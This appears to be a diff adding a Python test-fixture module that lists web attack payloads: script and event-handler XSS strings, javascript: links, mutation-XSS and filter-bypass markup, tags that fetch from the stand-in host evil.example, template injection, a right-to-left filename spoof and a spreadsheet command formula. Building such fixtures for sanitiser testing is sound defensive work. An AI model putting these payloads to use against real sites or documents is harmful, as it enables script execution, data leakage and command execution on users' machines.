@@ -1,0 +1,45 @@
+"""Words that try to become markup, script or a request: each of its own kind."""
+
+MARK = "boo-7f3a"
+RUN = f"document.title='{MARK}';alert('{MARK}')"
+AWAY = f"http://evil.example/{MARK}"
+PAYLOADS = (
+    f"<script>{RUN}</script>",
+    f'<img src=x onerror="{RUN}">',
+    f'<svg onload="{RUN}">',
+    f"<svg/onload={RUN}>",
+    f'<body onload="{RUN}">',
+    f'<iframe src="javascript:{RUN}"></iframe>',
+    f'<a href="javascript:{RUN}">x</a>',
+    f"[x](javascript:{RUN})",
+    f"[x](java\nscript:{RUN})",
+    "[x](&#106;avascript:alert(1))",
+    f'<details open ontoggle="{RUN}">',
+    f'<img src="{AWAY}.png">',
+    f"![x]({AWAY}.png)",
+    f'<link rel=stylesheet href="{AWAY}.css">',
+    f"<style>@import '{AWAY}.css'</style>",
+    f'<base href="{AWAY}">',
+    f'<meta http-equiv=refresh content="0;url={AWAY}">',
+    f'<form action="{AWAY}"><button autofocus>x</button></form>',
+    f'<object data="{AWAY}"></object>',
+    f'<embed src="{AWAY}">',
+    f'<video src="{AWAY}" autoplay onerror="{RUN}"></video>',
+    f'<input autofocus onfocus="{RUN}">',
+    f'<div hx-get="{AWAY}" hx-trigger=load></div>',
+    f'<div data-hx-on:load="{RUN}" hx-on::load="{RUN}">x</div>',
+    "<div data-behaviour=dialog data-live=1 data-url='/desk/'>x</div>",
+    f'"><script>{RUN}</script>',
+    f"'><img src=x onerror={RUN}>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"{{{{ request }}}}{{% debug %}}<script>{RUN}</script>",
+    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={RUN}>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<template shadowrootmode=open><script>{RUN}</script></template>",
+    "\u202e<b>gnp.exe</b>\u2066",
+    f"=cmd|' /C calc'!A0<script>{RUN}</script>",
+)
+ALL = "\n\n".join(PAYLOADS)
